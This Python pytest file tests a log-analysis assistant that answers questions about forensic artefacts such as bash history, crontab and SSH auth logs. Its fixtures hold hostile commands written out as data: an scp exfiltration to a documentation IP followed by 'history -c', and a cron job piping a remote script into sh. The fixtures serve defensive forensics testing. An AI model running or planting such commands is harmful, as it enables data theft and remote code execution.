"""The answer says what an artefact or a log does not record, and names a clause that nothing answers."""

from __future__ import annotations

import pytest

from svc.messages import AnswerStatus
from tests.support.inline_analyst import ask

HISTORY = b"#1795219200\nwhoami\n#1795219500\nscp /tmp/.d.tgz x@198.51.100.82:/in/\n#1795219600\nhistory -c\n"
CRONTAB = b"SHELL=/bin/sh\n*/5 * * * *  www-data  curl -fsS http://198.51.100.83/u | sh\n25 6 * * 1 root /opt/b.sh\n"
CHANGES = b"id,requester,change,decision\n1,ann,open port,approved\n2,bob,vpn,rejected\n3,cid,role,pending\n"
LOGINS = b"""Nov 23 02:11:01 bastion sshd[801]: Failed password for root from 203.0.113.61 port 40100 ssh2
Nov 23 03:05:12 bastion sshd[820]: Accepted password for lena from 203.0.113.61 port 40200 ssh2
Nov 23 03:09:31 bastion useradd[840]: new user: name=backupd, UID=1010, GID=1010, home=/home/backupd, shell=/bin/bash
"""


@pytest.mark.parametrize(
    ("name", "content", "question", "says"),
    [
        (".bash_history", HISTORY, "did the scp succeed?", "does not record whether a command succeeded"),
        ("crontab", CRONTAB, "who added the curl job", "does not record who made an entry"),
        ("changes.csv", CHANGES, "which were not approved", "`2,bob,vpn,rejected`; `3,cid,role,pending`"),
        ("auth.log", LOGINS, "which accounts did NOT log in succesfully", "`root` (1)"),
        ("auth.log", LOGINS, "Wer hat sich angemeldet, und welcher Benutzer wurde angelegt?", "backupd"),
        ("auth.log", LOGINS, "was backupd created after the login from 203.0.113.61?", "**Yes:** "),
    ],
)
async def test_the_first_paragraphs_say_it(name: str, content: bytes, question: str, says: str):
    asked = await ask(question, (name, content))
    assert says in "\n".join(asked.markdown.split("\n\n")[:2]), asked.markdown


async def test_the_second_part_of_a_german_question_is_answered_or_named():
    asked = await ask("Wer hat sich angemeldet und welche Frobnikation wurde verquast?", ("auth.log", LOGINS))
    assert len(asked.coverage["clauses"]) == 2
    assert "Question not understood" in asked.markdown
    assert asked.answer.status is AnswerStatus.PARTLY_ANSWERED
